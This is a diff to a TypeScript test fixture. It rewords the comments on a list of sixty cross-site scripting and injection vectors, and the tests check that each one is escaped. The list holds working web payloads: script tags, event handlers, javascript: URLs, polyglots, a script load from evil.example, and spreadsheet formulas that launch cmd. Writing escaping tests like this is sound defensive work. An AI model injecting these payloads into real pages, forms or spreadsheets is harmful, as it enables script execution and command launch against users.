@@ -1,9 +1,9 @@
 /**
- * Sixty texts that would run, lead away or calculate wherever a text is taken for something else: each would call `alert`, which the pages
- * of the tests watch. None is longer than a name may be.
+ * Sixty texts that run, redirect or calculate when they are not escaped: each calls `alert`, which the tests
+ * detect. None is longer than the maximum length of a name.
  */
 export const vectors: readonly string[] = [
-  // Scripts, also broken ones and those that close what stands before.
+  // Scripts, also malformed ones and those that close the element before.
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
   '<scr<script>ipt>alert(1)</scr</script>ipt>',
@@ -13,7 +13,7 @@ export const vectors: readonly string[] = [
   '"><script>alert(1)</script>',
   "<script type=module>import('data:text/javascript,alert(1)')</script>",
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  // Attributes that run.
+  // Attributes with scripts.
   '<img src=x onerror=alert(1)>',
   '<img src=x:x onerror\n=alert(1)>',
   '<body onload=alert(1)>',
@@ -27,7 +27,7 @@ export const vectors: readonly string[] = [
   "' onmouseover='alert(1)",
   '<style onload=alert(1)></style>',
   '<object data=x onerror=alert(1)></object>',
-  // Addresses that run.
+  // URLs that run scripts.
   'javascript:alert(1)',
   'JaVaScRiPt:alert(1)//',
   'java\tscript:alert(1)',
@@ -54,29 +54,29 @@ export const vectors: readonly string[] = [
   "{{constructor.constructor('alert(1)')()}}",
   '${alert(1)} #{alert(1)} <%= alert(1) %> {%7*7%} [[7*7]]',
   '<template><script>alert(1)</script></template>',
-  // Entities, escapes and quotes that do not end.
+  // Entities, escapes and unclosed quotes.
   '&lt;script&gt;alert(1)&lt;/script&gt;',
   '&#60;img src=x onerror=alert&#40;1&#41;&#62;',
   '\\u003cscript\\u003ealert(1)%3C/script%3E\\x3c',
   '<img src="x` `<script>alert(1)</script>"` `>',
   '<!--><img src=x onerror=alert(1)>-->',
-  // Signs that look like others, or like nothing.
+  // Characters that look like others, or are invisible.
   '＜script＞alert(1)＜/script＞\u202E>tpircs<',
   '<im\u200Bg src=x onerror\uFEFF=alert(1)>\u2028alert(1)',
-  // Styles, Markdown, and everything at once.
+  // Styles, Markdown, and polyglots.
   'x" style="animation:x" onanimationstart="alert(1)',
   '[x](javascript:alert(1)) ![x](x"onerror="alert(1)) <javascript:alert(1)>',
   'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert(1) )//<svg/oNloAd=alert(1)>',
-  // What a spreadsheet would calculate.
+  // Formulas of spreadsheets.
   '=HYPERLINK("javascript:alert(1)","x")',
   "+SUM(1)*cmd|' /C calc'!A0",
   "-1+1+cmd|' /C calc'!A0",
   '@SUM(1+1)*alert(1)',
 ];
 
-/** The vector at a place, however far: the list begins anew after its last one. */
+/** The vector at an index; after the last one it starts again. */
 export const vectorAt = (index: number): string => vectors[index % vectors.length] ?? '';
 
-/** Several of them in one text, from that place on. */
+/** Several vectors in one text, from that index on. */
 export const vectorsFrom = (index: number, count: number): string =>
   Array.from({ length: count }, (_, offset) => vectorAt(index + offset)).join('\n\n');
